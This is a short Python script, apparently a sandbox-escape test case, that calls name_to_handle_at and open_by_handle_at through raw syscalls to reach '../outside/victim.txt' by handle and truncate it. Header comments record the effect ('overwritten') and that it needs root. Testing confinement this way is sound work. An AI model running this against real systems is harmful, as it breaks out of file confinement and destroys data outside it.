# The file is opened by a handle that has no path.
# damage: overwritten
# needs: linux, root, x86_64, ctypes
import ctypes
import os
import struct

NAME_TO_HANDLE, OPEN_BY_HANDLE, HERE = 303, 304, -100
libc = ctypes.CDLL(None)
handle = ctypes.create_string_buffer(struct.pack("Ii", 128, 0) + bytes(128))
mount = ctypes.c_int()
libc.syscall(NAME_TO_HANDLE, HERE, b"../outside/victim.txt", handle, ctypes.byref(mount), 0)
libc.syscall(OPEN_BY_HANDLE, os.open(".", os.O_RDONLY), handle, os.O_WRONLY | os.O_TRUNC)
